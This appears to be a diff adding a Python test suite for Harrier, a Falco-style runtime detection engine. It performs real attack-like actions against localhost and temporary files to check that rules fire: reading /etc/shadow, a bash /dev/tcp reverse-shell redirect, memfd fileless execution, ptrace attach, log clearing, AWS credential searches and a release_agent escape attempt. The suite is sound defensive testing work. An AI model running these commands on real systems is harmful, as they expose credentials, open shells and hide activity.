@@ -1,0 +1,1086 @@
+"""Harrier's default rules (rules/harrier_rules.yaml) against real actions.
+
+Each scenario performs the real action a rule is about (a copied `cat`
+reading /etc/shadow, curl connecting to an odd port, a program run from
+/dev/shm, ...) and a near miss that must not alert, while the live probe
+records (`harrier-inspect -w`, see record_actions.py). The recording is cut
+to each action's process tree and replayed with `harrier -r RULES -e`:
+
+- test_live_<scenario>: the positive tree raises the rule, with the fields
+  that say who did what;
+- test_live_<scenario>_near_miss: the near-miss tree does not raise it;
+- test_replay_<scenario>: the recording stored in tests/captures (both trees
+  plus this test process's own activity) raises exactly the expected alerts,
+  without a kernel;
+- test_replay_background_only_expected_rules: every stored recording replayed
+  with all rules raises only the rules its scenario expects.
+
+The upstream stable rules (../shared/compat-rules/falco_rules.yaml) are
+checked the same way on the matching recordings.
+
+Needs root for the live tests. Container scenarios run real podman
+containers (runc, no network, an image made from busybox and bash).
+"""
+import gzip
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+
+import record_actions as ra
+
+RULES = os.path.join(ra.ROOT, "rules", "harrier_rules.yaml")
+UPSTREAM = os.path.normpath(os.path.join(ra.ROOT, "..", "shared", "compat-rules", "falco_rules.yaml"))
+IMAGE = "localhost/harrier-rules:test"
+PODMAN = ["podman", "--runtime", "runc", "--cgroup-manager", "cgroupfs", "--events-backend", "file"]
+PODMAN_RUN = PODMAN + ["run", "--rm", "--network", "none", "--ulimit", "nofile=20000:20000",
+                       "--ulimit", "nproc=32768:32768"]
+
+CONTAINER_ID_MISSING = ("the probe leaves cgroups empty in clone/exec events (probe.bpf.c), so live "
+                        "recordings have container.id=host (issue 5/6)")
+PRIVILEGED_FIELD_MISSING = ("container.privileged is not a field yet (fields_container.c lists it as "
+                            "unsupported), so the rule 'Privileged container started' cannot be in "
+                            "rules/harrier_rules.yaml (its condition would not compile) (issue 6)")
+UPSTREAM_NOT_LOADING = ("../shared/compat-rules/falco_rules.yaml does not load yet: fields such as "
+                        "fd.nameraw, proc.is_exe_from_memfd, thread.cap_effective are missing (issue 3)")
+LINK_NOT_RECORDED = "the probe does not record link/linkat yet (probe.bpf.c) (issue 5)"
+ENTER_PARAMS_NOT_MERGED = (
+    "live recordings are written in the 2022 layout, where ptrace's request (and socket's domain) "
+    "is only in the enter event, and harrier's rules see only exit events; Falco 0.44 merges an "
+    "old capture's enter parameters into the exit event when reading it (issue 4 rules engine or "
+    "issue 2 event core)")
+
+PENDING_TESTS = {
+    "test_live_shell_in_container": CONTAINER_ID_MISSING,
+    "test_live_packet_socket_in_container": CONTAINER_ID_MISSING + "; also " + ENTER_PARAMS_NOT_MERGED,
+    "test_live_ptrace_attach": ENTER_PARAMS_NOT_MERGED,
+    "test_replay_ptrace_attach": ENTER_PARAMS_NOT_MERGED,
+    "test_live_release_agent_in_container": CONTAINER_ID_MISSING,
+    "test_live_privileged_container": PRIVILEGED_FIELD_MISSING + "; also " + CONTAINER_ID_MISSING,
+    "test_live_privileged_container_near_miss": PRIVILEGED_FIELD_MISSING,
+    "test_live_hardlink_to_sensitive_file": LINK_NOT_RECORDED,
+    "test_live_container_names_in_alert": (
+        "live recordings carry no container metadata (name, image): harrier-inspect -w writes no "
+        "container events and the probe no cgroups (issue 5/6)"),
+    "test_live_user_name_in_alert": (
+        "harrier-inspect -w writes no user list, so user.name is <NA> when a live recording is "
+        "replayed (issue 5)"),
+    "test_live_vfork_spawned_program_named": (
+        "a child started with vfork (Python's subprocess) is renamed back to its parent when the "
+        "parent's vfork exit arrives after the child's execve: the child's own vfork exit does not "
+        "create its thread (it prints as <NA>), so the parent's exit overwrites the exec'd child "
+        "(sysdig 0.29.3 reading the same recording agrees; newer libsinsp keeps the inverted-clone "
+        "child) (issue 5 probe or issue 2 state)"),
+    "test_upstream_rules_load_alongside": UPSTREAM_NOT_LOADING,
+    "test_upstream_read_sensitive_file_untrusted": UPSTREAM_NOT_LOADING,
+    "test_upstream_create_symlink_over_sensitive_files": UPSTREAM_NOT_LOADING,
+    "test_upstream_execution_from_dev_shm": UPSTREAM_NOT_LOADING,
+    "test_upstream_fileless_execution_via_memfd_create": UPSTREAM_NOT_LOADING,
+    "test_upstream_ptrace_attached_to_process": UPSTREAM_NOT_LOADING,
+    "test_upstream_terminal_shell_in_container": UPSTREAM_NOT_LOADING + "; also " + CONTAINER_ID_MISSING,
+    "test_replay_background_with_upstream_rules": UPSTREAM_NOT_LOADING,
+}
+
+
+# ---- helpers the actions share ----------------------------------------------
+
+class Listener:
+    """A TCP server on 127.0.0.1 that accepts, reads a little and closes."""
+
+    def __init__(self, port=0):
+        self.sock = socket.socket()
+        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self.sock.bind(("127.0.0.1", port))
+        self.sock.listen(16)
+        self.port = self.sock.getsockname()[1]
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self):
+        while True:
+            try:
+                c, _ = self.sock.accept()
+            except OSError:
+                return
+            c.settimeout(1.0)
+            try:
+                c.recv(512)
+            except OSError:
+                pass
+            c.close()
+
+    def close(self):
+        self.sock.close()
+
+
+def free_listener(ports):
+    """A Listener on the first of `ports` that can be bound."""
+    for port in ports:
+        try:
+            return Listener(port)
+        except OSError:
+            continue
+    raise AssertionError("none of the ports %s can be bound on 127.0.0.1" % (ports,))
+
+
+def copy_program(src, directory, name):
+    os.makedirs(directory, exist_ok=True)
+    dst = os.path.join(directory, name)
+    shutil.copy(src, dst)
+    os.chmod(dst, 0o755)
+    return dst
+
+
+def spawn(args, **kw):
+    """Starts an action with fork+exec and waits for it. Not vfork, and the
+    scripts run in bash, which forks, not dash, which uses vfork: see the
+    pending vfork test."""
+    saved = subprocess._USE_VFORK
+    subprocess._USE_VFORK = False
+    try:
+        a = ra.Action(args, **kw)
+    finally:
+        subprocess._USE_VFORK = saved
+    a.wait()
+    return a
+
+
+def python(code):
+    return [sys.executable, "-c", code]
+
+
+# ---- containers ---------------------------------------------------------------
+
+def ensure_image(ctx):
+    """Builds the test image (busybox applets, bash and its libraries) once."""
+    if shutil.which("podman") is None or shutil.which("runc") is None:
+        raise AssertionError("podman and runc are needed (apt-get install podman runc netavark busybox-static)")
+    if subprocess.run(PODMAN + ["image", "exists", IMAGE], capture_output=True).returncode == 0:
+        return
+    busybox = shutil.which("busybox")
+    assert busybox, "busybox is needed (busybox-static)"
+    with tempfile.TemporaryDirectory(prefix="harrier-rules-image-") as d:
+        root = os.path.join(d, "root")
+        for sub in ("bin", "etc", "tmp", "proc", "sys", "dev"):
+            os.makedirs(os.path.join(root, sub))
+        shutil.copy(busybox, os.path.join(root, "bin", "busybox"))
+        applets = subprocess.run([busybox, "--list"], capture_output=True, text=True, check=True).stdout.split()
+        for applet in applets:
+            if applet not in ("busybox", "bash"):
+                os.symlink("busybox", os.path.join(root, "bin", applet))
+        shutil.copy("/bin/bash", os.path.join(root, "bin", "bash"))
+        libs = subprocess.run(["ldd", "/bin/bash"], capture_output=True, text=True, check=True).stdout
+        for line in libs.splitlines():
+            path = [w for w in line.split() if w.startswith("/")]
+            if path:
+                dst = os.path.join(root, path[0].lstrip("/"))
+                os.makedirs(os.path.dirname(dst), exist_ok=True)
+                shutil.copy(path[0], dst)
+        with open(os.path.join(root, "etc", "passwd"), "w") as f:
+            f.write("root:x:0:0:root:/root:/bin/bash\n")
+        tar = os.path.join(d, "rootfs.tar")
+        subprocess.run(["tar", "-C", root, "-cf", tar, "."], check=True)
+        subprocess.run(PODMAN + ["import", "--change", 'CMD ["/bin/bash"]', tar, IMAGE],
+                       capture_output=True, check=True)
+
+
+def container_name(tag):
+    return "harrier-rules-%s-%d" % (tag, os.getpid())
+
+
+def remove_container(name):
+    subprocess.run(PODMAN + ["rm", "-f", "-t", "0", name], capture_output=True)
+
+
+# ---- scenarios ------------------------------------------------------------------
+#
+# A scenario prepares (outside the recording), then performs its positive and
+# near-miss actions while recorded, and says what alerts each must raise.
+# `expect` lists (rule, {field: value}) that the positive tree must raise (each
+# at least once, with those output fields); `positive_rules` is every rule the
+# positive tree may raise (the expected ones plus rules its action rightly
+# also trips); `near_miss_forbids` the rules the near miss must not raise.
+
+class Scenario:
+    container = False
+    tree_filter_extra = ""
+
+    def __init__(self, ctx, work):
+        self.ctx = ctx
+        self.work = work
+
+    def prepare(self):
+        pass
+
+    def positive(self):
+        raise NotImplementedError
+
+    def near_miss(self):
+        raise NotImplementedError
+
+    def cleanup(self):
+        pass
+
+
+class SensitiveRead(Scenario):
+    name = "sensitive_file_read"
+    rule = "Sensitive file read by untrusted program"
+
+    def prepare(self):
+        self.cat = copy_program("/bin/cat", os.path.join(self.work, "copied"), "cat")
+
+    def positive(self):
+        return [spawn([self.cat, "/etc/shadow"])]
+
+    def near_miss(self):
+        # a file that is not sensitive, and a sensitive one only looked at
+        return [spawn([self.cat, "/etc/passwd"]), spawn(["/usr/bin/stat", "/etc/shadow"])]
+
+    def expect(self):
+        return [(self.rule, {"fd.name": "/etc/shadow", "proc.name": "cat",
+                             "proc.cmdline": "cat /etc/shadow", "user.uid": 0})]
+
+
+class OutboundPort(Scenario):
+    name = "outbound_unexpected_port"
+    rule = "Outbound connection to unexpected port"
+
+    def prepare(self):
+        self.odd = Listener()
+        self.http = free_listener([8080, 8443, 80, 443])
+
+    def positive(self):
+        return [spawn(["/usr/bin/curl", "-s", "--max-time", "3", "http://127.0.0.1:%d/" % self.odd.port])]
+
+    def near_miss(self):
+        # curl to an HTTP port is on its allow-list; unix sockets are not IP
+        return [spawn(["/usr/bin/curl", "-s", "--max-time", "3", "http://127.0.0.1:%d/" % self.http.port]),
+                spawn(python("import socket\ns = socket.socket(socket.AF_UNIX)\n"
+                             "try: s.connect('/run/harrier-no-such-socket')\nexcept OSError: pass"))]
+
+    def expect(self):
+        return [(self.rule, {"proc.name": "curl", "fd.sport": self.odd.port, "fd.sip": "127.0.0.1",
+                             "fd.l4proto": "tcp"})]
+
+    def cleanup(self):
+        self.odd.close()
+        self.http.close()
+
+
+class BinaryDirWrite(Scenario):
+    name = "write_below_binary_dir"
+    rule = "Write below binary directory"
+
+    def prepare(self):
+        self.target = "/usr/local/bin/harrier-rules-test-%d" % os.getpid()
+        self.other = "/usr/local/share/harrier-rules-test-%d" % os.getpid()
+        self.lookalike = os.path.join(self.work, "usr", "bin", "harrier-rules-test")
+        os.makedirs(os.path.dirname(self.lookalike), exist_ok=True)
+
+    def _ops(self, path):
+        return ("echo x > {p} && chmod 755 {p} && mv {p} {p}.moved && rm {p}.moved"
+                .format(p=path))
+
+    def positive(self):
+        return [spawn(["/bin/bash", "-c", self._ops(self.target)])]
+
+    def near_miss(self):
+        # the same operations beside the binary directories, and a read in one
+        return [spawn(["/bin/bash", "-c", self._ops(self.other)]),
+                spawn(["/bin/bash", "-c", self._ops(self.lookalike)]),
+                spawn(["/usr/bin/head", "-c", "4", "/usr/bin/env"])]
+
+    def expect(self):
+        return [(self.rule, {"evt.type": t, "proc.name": n}) for t, n in
+                (("openat", "bash"), ("fchmodat", "chmod"), ("renameat2", "mv"), ("unlinkat", "rm"))]
+
+    def cleanup(self):
+        for p in (self.target, self.target + ".moved", self.other, self.other + ".moved"):
+            if os.path.exists(p):
+                os.unlink(p)
+
+
+class DevRegularFile(Scenario):
+    name = "regular_file_under_dev"
+    rule = "Regular file created under /dev"
+
+    def prepare(self):
+        self.path = "/dev/harrier-rules-test-%d" % os.getpid()
+        self.shm = "/dev/shm/harrier-rules-test-%d" % os.getpid()
+
+    def positive(self):
+        return [spawn(["/bin/bash", "-c", "echo hidden > %s" % self.path])]
+
+    def near_miss(self):
+        # a device opened with O_CREAT by a redirection, a file in /dev/shm
+        return [spawn(["/bin/bash", "-c", "echo nothing > /dev/null; echo shared > %s" % self.shm])]
+
+    def expect(self):
+        return [(self.rule, {"fd.name": self.path, "proc.name": "bash"})]
+
+    def cleanup(self):
+        for p in (self.path, self.shm):
+            if os.path.exists(p):
+                os.unlink(p)
+
+
+class Webcam(Scenario):
+    name = "webcam_open"
+    rule = "Webcam opened by untrusted program"
+
+    def positive(self):
+        assert not os.path.exists("/dev/video0"), "this machine has a camera: the test expects none"
+        return [spawn(["/bin/cat", "/dev/video0"])]
+
+    def near_miss(self):
+        return [spawn(["/bin/cat", "/dev/null"]), spawn(["/bin/cat", "/dev/vhost-net-harrier-missing"])]
+
+    def expect(self):
+        return [(self.rule, {"evt.arg.name": "/dev/video0", "evt.res": "ENOENT", "proc.name": "cat"})]
+
+
+class RawDisk(Scenario):
+    name = "raw_disk_open"
+    rule = "Raw disk opened by untrusted program"
+
+    def prepare(self):
+        disks = [d for d in ("/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/xvda") if os.path.exists(d)]
+        assert disks, "no disk device found"
+        self.disk = disks[0]
+
+    def positive(self):
+        return [spawn(["/usr/bin/dd", "if=%s" % self.disk, "of=/dev/null", "bs=512", "count=1"])]
+
+    def near_miss(self):
+        # a trusted disk tool, and dd on a device that is not a disk
+        return [spawn(["/usr/sbin/blkid", self.disk]),
+                spawn(["/usr/bin/dd", "if=/dev/zero", "of=/dev/null", "bs=512", "count=1"])]
+
+    def expect(self):
+        # opening the disk is refused in this VM (EPERM): the attempt counts
+        return [(self.rule, {"evt.arg.name": self.disk, "proc.name": "dd"})]
+
+
+class UtilityNetwork(Scenario):
+    name = "local_utility_network"
+    rule = "Network activity by local utility"
+
+    def prepare(self):
+        self.odd = Listener()
+        self.http = free_listener([8080, 8443, 80, 443])
+        # a network program disguised under a local utility's name
+        self.fake_cat = copy_program("/usr/bin/curl", os.path.join(self.work, "trojan"), "cat")
+
+    def positive(self):
+        return [spawn([self.fake_cat, "-s", "--max-time", "3", "http://127.0.0.1:%d/" % self.odd.port])]
+
+    def near_miss(self):
+        # utilities doing their local work (ls -l may ask nscd over a unix
+        # socket); curl itself is no local utility
+        return [spawn(["/bin/ls", "-l", "/"]), spawn(["/bin/cat", "/etc/hostname"]),
+                spawn(["/usr/bin/curl", "-s", "--max-time", "3", "http://127.0.0.1:%d/" % self.http.port])]
+
+    def expect(self):
+        return [(self.rule, {"evt.type": "connect", "proc.name": "cat",
+                             "fd.name": Contains("->127.0.0.1:%d" % self.odd.port)})]
+
+    positive_also = ["Outbound connection to unexpected port"]
+
+    def cleanup(self):
+        self.odd.close()
+        self.http.close()
+
+
+class KernelModule(Scenario):
+    name = "kernel_module_load"
+    rule = "Kernel module load attempted"
+
+    CODE = """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+image = ctypes.create_string_buffer(b'\\x7fELF' + b'\\0' * 60)
+libc.syscall(175, image, 64, b'')              # init_module
+fd = os.open('/bin/true', os.O_RDONLY)
+libc.syscall(313, fd, b'', 0)                  # finit_module
+"""
+
+    def positive(self):
+        return [spawn(python(self.CODE))]
+
+    def near_miss(self):
+        # the same file opened, no module syscall
+        return [spawn(python("import os\nos.close(os.open('/bin/true', os.O_RDONLY))"))]
+
+    def expect(self):
+        return [(self.rule, {"evt.type": "init_module", "proc.name": "python3"}),
+                (self.rule, {"evt.type": "finit_module", "proc.name": "python3"})]
+
+
+class Ptrace(Scenario):
+    name = "ptrace_attach"
+    rule = "Ptrace attach to process"
+
+    ATTACH = """
+import ctypes, os, time
+libc = ctypes.CDLL(None, use_errno=True)
+pid = os.fork()
+if pid == 0:
+    time.sleep(10)
+    os._exit(0)
+assert libc.ptrace(16, pid, 0, 0) == 0, ctypes.get_errno()   # PTRACE_ATTACH
+os.waitpid(pid, 0)
+libc.ptrace(17, pid, 0, 0)                                    # PTRACE_DETACH
+os.kill(pid, 9)
+os.waitpid(pid, 0)
+"""
+    TRACEME = """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+pid = os.fork()
+if pid == 0:
+    libc.ptrace(0, 0, 0, 0)                                   # PTRACE_TRACEME
+    os._exit(0)
+os.waitpid(pid, 0)
+"""
+
+    def positive(self):
+        return [spawn(python(self.ATTACH))]
+
+    def near_miss(self):
+        return [spawn(python(self.TRACEME))]
+
+    def expect(self):
+        return [(self.rule, {"evt.arg.request": "PTRACE_ATTACH", "proc.name": "python3"})]
+
+
+class Memfd(Scenario):
+    name = "fileless_memfd_exec"
+    rule = "Fileless execution from memfd"
+
+    EXEC = """
+import os
+fd = os.memfd_create('harrier-payload', 0)
+os.write(fd, open('/bin/true', 'rb').read())
+os.execv('/proc/self/fd/%d' % fd, ['payload'])
+"""
+    NO_EXEC = """
+import os
+fd = os.memfd_create('harrier-buffer', 0)
+os.write(fd, open('/bin/true', 'rb').read())
+os.execv('/bin/true', ['true'])
+"""
+
+    def positive(self):
+        return [spawn(python(self.EXEC))]
+
+    def near_miss(self):
+        return [spawn(python(self.NO_EXEC))]
+
+    def expect(self):
+        # the probe records the path exec'd (no trusted executable path yet)
+        return [(self.rule, {"proc.exepath": "/proc/self/fd/3"})]
+
+
+class DevShmExec(Scenario):
+    name = "exec_from_dev_shm"
+    rule = "Execution from /dev/shm"
+
+    def prepare(self):
+        self.prog = copy_program("/bin/true", "/dev/shm", "harrier-rules-true-%d" % os.getpid())
+        self.tmp_prog = copy_program("/bin/true", self.work, "harrier-rules-true")
+
+    def positive(self):
+        return [spawn([self.prog])]
+
+    def near_miss(self):
+        # the same program run from elsewhere; the /dev/shm copy only read
+        return [spawn([self.tmp_prog]), spawn(["/bin/cat", self.prog])]
+
+    def expect(self):
+        return [(self.rule, {"proc.exepath": self.prog, "proc.name": os.path.basename(self.prog)[:15]})]
+
+    def cleanup(self):
+        os.unlink(self.prog)
+
+
+class LogClear(Scenario):
+    name = "log_file_cleared"
+    rule = "Log file cleared"
+
+    def prepare(self):
+        self.log = "/var/log/harrier-rules-test-%d.log" % os.getpid()
+        self.tmp_log = os.path.join(self.work, "app.log")
+        for p in (self.log, self.tmp_log):
+            with open(p, "w") as f:
+                f.write("entry\n")
+
+    def positive(self):
+        return [spawn(["/bin/bash", "-c", ": > %s" % self.log])]
+
+    def near_miss(self):
+        # appending to the log, truncating a log that is not below /var/log
+        return [spawn(["/bin/bash", "-c", "echo more >> %s; : > %s" % (self.log, self.tmp_log)])]
+
+    def expect(self):
+        return [(self.rule, {"fd.name": self.log, "proc.name": "bash"})]
+
+    def cleanup(self):
+        os.unlink(self.log)
+
+
+class Symlink(Scenario):
+    name = "symlink_to_sensitive_file"
+    rule = "Link to sensitive file"
+
+    def positive(self):
+        return [spawn(["/bin/ln", "-s", "/etc/shadow", os.path.join(self.work, "innocent")])]
+
+    def near_miss(self):
+        return [spawn(["/bin/ln", "-s", "/etc/hostname", os.path.join(self.work, "name")])]
+
+    def expect(self):
+        return [(self.rule, {"evt.type": "symlinkat", "proc.name": "ln",
+                             "evt.args": Contains("target=/etc/shadow ")})]
+
+
+class Hardlink(Scenario):
+    name = "hardlink_to_sensitive_file"
+    rule = "Link to sensitive file"
+
+    def positive(self):
+        # /tmp may be another file system: the attempt is what counts
+        return [spawn(["/bin/ln", "/etc/shadow", os.path.join(self.work, "innocent")])]
+
+    def near_miss(self):
+        other = os.path.join(self.work, "plain")
+        with open(other, "w") as f:
+            f.write("x")
+        return [spawn(["/bin/ln", other, os.path.join(self.work, "plain2")])]
+
+    def expect(self):
+        return [(self.rule, {"evt.type": "linkat", "proc.name": "ln", "evt.args": Contains("/etc/shadow")})]
+
+    def cleanup(self):
+        p = os.path.join(self.work, "innocent")
+        if os.path.exists(p):
+            os.unlink(p)
+
+
+class ReverseShell(Scenario):
+    name = "stdio_to_network"
+    rule = "Standard stream redirected to network connection"
+
+    def prepare(self):
+        self.server = Listener()
+
+    def positive(self):
+        return [spawn(["/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/%d; exec 0<&3 1>&3; echo hi"
+                       % self.server.port])]
+
+    def near_miss(self):
+        # a socket kept on fd 5, and stdout redirected to a file
+        return [spawn(["/bin/bash", "-c", "exec 5<>/dev/tcp/127.0.0.1/%d; exec 1>%s; echo hi"
+                       % (self.server.port, os.path.join(self.work, "out.txt"))])]
+
+    def expect(self):
+        return [(self.rule, {"evt.rawres": 0, "proc.name": "bash"}),
+                (self.rule, {"evt.rawres": 1, "proc.name": "bash"})]
+
+    positive_also = ["Outbound connection to unexpected port"]
+    near_miss_also = ["Outbound connection to unexpected port"]
+
+    def cleanup(self):
+        self.server.close()
+
+
+class SystemUserShell(Scenario):
+    name = "system_user_interactive_shell"
+    rule = "Interactive shell by system user"
+
+    # script runs its command with $SHELL: bash, which execs it without vfork
+    ENV = dict(ra.CLEAN_ENV, SHELL="/bin/bash")
+
+    def positive(self):
+        return [spawn(["/usr/bin/script", "-qc", "/usr/sbin/runuser -u daemon -- /bin/bash -c true", "/dev/null"],
+                      env=self.ENV)]
+
+    def near_miss(self):
+        # root's shell on a terminal, the system user's shell without one
+        return [spawn(["/usr/bin/script", "-qc", "/bin/bash -c true", "/dev/null"], env=self.ENV),
+                spawn(["/usr/sbin/runuser", "-u", "daemon", "--", "/bin/bash", "-c", "true"])]
+
+    def expect(self):
+        return [(self.rule, {"user.uid": 1, "proc.name": "bash", "proc.pname": "runuser",
+                             "proc.cmdline": "bash -c true"})]
+
+
+class AwsSearch(Scenario):
+    name = "aws_credential_search"
+    rule = "AWS credential search"
+
+    def prepare(self):
+        os.makedirs(os.path.join(self.work, "home", ".aws"), exist_ok=True)
+        with open(os.path.join(self.work, "home", ".aws", "config"), "w") as f:
+            f.write("[default]\nregion = eu-west-1\n")
+
+    def positive(self):
+        home = os.path.join(self.work, "home")
+        return [spawn(["/bin/grep", "-r", "aws_secret_access_key", home]),
+                spawn(["/usr/bin/find", home, "-path", "*.aws/credentials"])]
+
+    def near_miss(self):
+        home = os.path.join(self.work, "home")
+        return [spawn(["/bin/grep", "-r", "region", home]),
+                spawn(["/bin/cat", os.path.join(home, ".aws", "config")])]
+
+    def expect(self):
+        return [(self.rule, {"proc.name": "grep"}), (self.rule, {"proc.name": "find"})]
+
+
+class ContainerScenario(Scenario):
+    container = True
+    tree_filter_extra = " or container.id != host"
+
+    def prepare(self):
+        ensure_image(self.ctx)
+        self.names = []
+
+    def run_container(self, tag, command, extra=()):
+        name = container_name(tag)
+        self.names.append(name)
+        return spawn(PODMAN_RUN + ["--name", name, *extra, IMAGE, *command])
+
+    def cleanup(self):
+        for n in self.names:
+            remove_container(n)
+
+
+class ContainerShell(ContainerScenario):
+    name = "shell_in_container"
+    rule = "Shell started in container"
+
+    def positive(self):
+        return [self.run_container("shell", ["/bin/bash", "-c", "exit 0"])]
+
+    def near_miss(self):
+        # a shell on the host; a container running no shell
+        return [spawn(["/bin/bash", "-c", "exit 0"]), self.run_container("noshell", ["/bin/true"])]
+
+    def expect(self):
+        return [(self.rule, {"proc.name": "bash", "container.image": IMAGE,
+                             "container.name": container_name("shell")})]
+
+
+class ContainerTty(ContainerScenario):
+    """bash with a terminal in a container: Falco's 'Terminal shell in container'."""
+    name = "terminal_shell_in_container"
+    rule = "Shell started in container"
+
+    def positive(self):
+        cmd = " ".join(PODMAN_RUN + ["-it", "--name", container_name("tty"), IMAGE, "/bin/bash", "-c", "true"])
+        self.names.append(container_name("tty"))
+        return [spawn(["/usr/bin/script", "-qc", cmd, "/dev/null"], env=SystemUserShell.ENV)]
+
+    def near_miss(self):
+        return [spawn(["/usr/bin/script", "-qc", "/bin/bash -c true", "/dev/null"], env=SystemUserShell.ENV)]
+
+    def expect(self):
+        return [(self.rule, {"proc.name": "bash", "container.image": IMAGE})]
+
+
+class PacketSocket(ContainerScenario):
+    name = "packet_socket_in_container"
+    rule = "Packet socket created in container"
+
+    def positive(self):
+        return [self.run_container("arping", ["/bin/arping", "-c", "1", "-w", "1", "-I", "lo", "127.0.0.1"])]
+
+    def near_miss(self):
+        # a packet socket on the host is not in a container
+        return [spawn(python("import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()"))]
+
+    def expect(self):
+        return [(self.rule, {"proc.name": "arping", "container.image": IMAGE})]
+
+
+class ReleaseAgent(ContainerScenario):
+    name = "release_agent_in_container"
+    rule = "Container escape via release_agent"
+
+    def positive(self):
+        # unprivileged: the cgroup file system is read-only, the attempt fails
+        return [self.run_container("agent", ["/bin/sh", "-c",
+                                             "echo /x > /sys/fs/cgroup/memory/release_agent; true"])]
+
+    def near_miss(self):
+        return [self.run_container("agentfile", ["/bin/sh", "-c", "echo /x > /tmp/release_agent.txt"])]
+
+    def expect(self):
+        return [(self.rule, {"proc.name": "sh", "container.image": IMAGE})]
+
+
+class PrivilegedContainer(ContainerScenario):
+    name = "privileged_container"
+    rule = "Privileged container started"
+
+    def positive(self):
+        return [self.run_container("priv", ["/bin/true"], extra=["--privileged"])]
+
+    def near_miss(self):
+        return [self.run_container("unpriv", ["/bin/true"])]
+
+    def expect(self):
+        return [(self.rule, {"container.name": container_name("priv"), "container.image": IMAGE})]
+
+
+SCENARIOS = [SensitiveRead, OutboundPort, BinaryDirWrite, DevRegularFile, Webcam, RawDisk, UtilityNetwork,
+             KernelModule, Ptrace, Memfd, DevShmExec, LogClear, Symlink, Hardlink, ReverseShell,
+             SystemUserShell, AwsSearch, ContainerShell, ContainerTty, PacketSocket, ReleaseAgent,
+             PrivilegedContainer]
+BY_NAME = {s.name: s for s in SCENARIOS}
+
+
+# ---- recording and checking --------------------------------------------------------
+
+class Recorded:
+    """One scenario recorded live: the positive, near-miss and whole-test cuts."""
+
+    def __init__(self, positive, near_miss, whole, scenario):
+        self.positive = positive
+        self.near_miss = near_miss
+        self.whole = whole
+        self.scenario = scenario
+
+
+_RECORDED = {}
+
+
+def record(ctx, cls):
+    """Records scenario `cls` once per build under test (its positive and
+    near-miss tests share the recording)."""
+    key = (ctx.build, cls.name)
+    if key in _RECORDED:
+        return _RECORDED[key]
+    if os.geteuid() != 0:
+        raise AssertionError("live recording needs root")
+    work = tempfile.mkdtemp(prefix="harrier-rules-%s-" % cls.name)
+    sc = cls(ctx, work)
+    full = os.path.join(work, "full.scap")
+    rec = None
+    try:
+        sc.prepare()
+        rec = ra.Recording(ctx, full)
+        rec.marker()
+        pos = sc.positive()
+        neg = sc.near_miss()
+        rec.stop()
+        rec = None
+        extra = sc.tree_filter_extra
+        me = os.getpid()
+
+        def tree(actions):
+            return "(" + " or ".join(a.tree_filter() for a in actions) + extra + ")"
+        cuts = {}
+        for part, flt, threads in (("positive", tree(pos), None), ("near_miss", tree(neg), None),
+                                   ("whole", "(proc.pid=%d or proc.apid=%d%s)" % (me, me, extra), me)):
+            cuts[part] = os.path.join(work, part + ".scap")
+            ra.trim(ctx, full, cuts[part], flt, keep_threads_of=threads)
+        os.unlink(full)
+    finally:
+        if rec is not None:
+            rec.kill()
+        sc.cleanup()
+    result = Recorded(cuts["positive"], cuts["near_miss"], cuts["whole"], sc)
+    _RECORDED[key] = result
+    return result
+
+
+class Contains(str):
+    """An expected output field value that must contain this text."""
+
+    def to_json(self):
+        return {"contains": str(self)}
+
+
+def field_matches(alert, field, want):
+    have = alert.get("output_fields", {}).get(field, "<absent>")
+    if isinstance(want, Contains):
+        return isinstance(have, str) and want in have
+    return have == want or str(have) == str(want)
+
+
+def check_expected(alerts, expected, label):
+    for rule, fields in expected:
+        candidates = [a for a in alerts if a["rule"] == rule]
+        if not any(all(field_matches(a, f, v) for f, v in fields.items()) for a in candidates):
+            raise AssertionError("%s: no alert %r with %s; alerts of the rule: %s; all rules raised: %s" % (
+                label, rule, fields, [a.get("output_fields") for a in candidates][:5],
+                sorted({a["rule"] for a in alerts})))
+
+
+def allowed_rules(sc):
+    return {sc.rule} | set(getattr(sc, "positive_also", []))
+
+
+def near_miss_allowed(sc):
+    return set(getattr(sc, "near_miss_also", []))
+
+
+def rule_names():
+    with open(RULES) as f:
+        return {line[len("- rule: "):].strip() for line in f if line.startswith("- rule: ")}
+
+
+def live_positive(cls):
+    def test(ctx):
+        rec = record(ctx, cls)
+        alerts = ra.replay(ctx, rec.positive, RULES)
+        check_expected(alerts, rec.scenario.expect(), cls.name)
+        unexpected = sorted({a["rule"] for a in alerts} - allowed_rules(rec.scenario))
+        assert not unexpected, "%s: the action also raised %s" % (cls.name, unexpected)
+    test.__doc__ = "%s: the real action raises %r." % (cls.name, cls.rule)
+    return test
+
+
+def live_near_miss(cls):
+    def test(ctx):
+        assert cls.rule in rule_names(), "no rule %r in %s" % (cls.rule, RULES)
+        rec = record(ctx, cls)
+        alerts = ra.replay(ctx, rec.near_miss, RULES)
+        raised = sorted({a["rule"] for a in alerts} - near_miss_allowed(rec.scenario))
+        assert not raised, "%s near miss raised %s: %s" % (cls.name, raised,
+                                                            [a["output"] for a in alerts][:5])
+        # the near miss was recorded: its processes are in the cut
+        p = ctx.inspect("-r", rec.near_miss, "-p", "%proc.name", "evt.type=execve and evt.dir=<")
+        assert p.stdout.strip(), "%s: the near-miss recording holds no exec" % cls.name
+    test.__doc__ = "%s: the near miss does not raise %r." % (cls.name, cls.rule)
+    return test
+
+
+def stored_capture(name):
+    return os.path.join(ra.CAPTURES, name + ".scap")
+
+
+def expected_in_whole(sc):
+    return allowed_rules(sc) | near_miss_allowed(sc)
+
+
+def replay_stored(cls):
+    def test(ctx):
+        path = stored_capture(cls.name)
+        assert os.path.exists(path), "%s is missing: record it with python3 tests/record_actions.py" % path
+        sc = cls(ctx, ra.CAPTURES)
+        expect = STORED_EXPECTATIONS.get(cls.name)
+        assert expect is not None, "no stored expectations for %s" % cls.name
+        alerts = ra.replay(ctx, path, RULES)
+        check_expected(alerts, expect, path)
+        unexpected = sorted({a["rule"] for a in alerts} - expected_in_whole(sc))
+        assert not unexpected, "%s raised %s" % (path, unexpected)
+    test.__doc__ = "%s: the stored recording raises %r without a kernel." % (cls.name, cls.rule)
+    return test
+
+
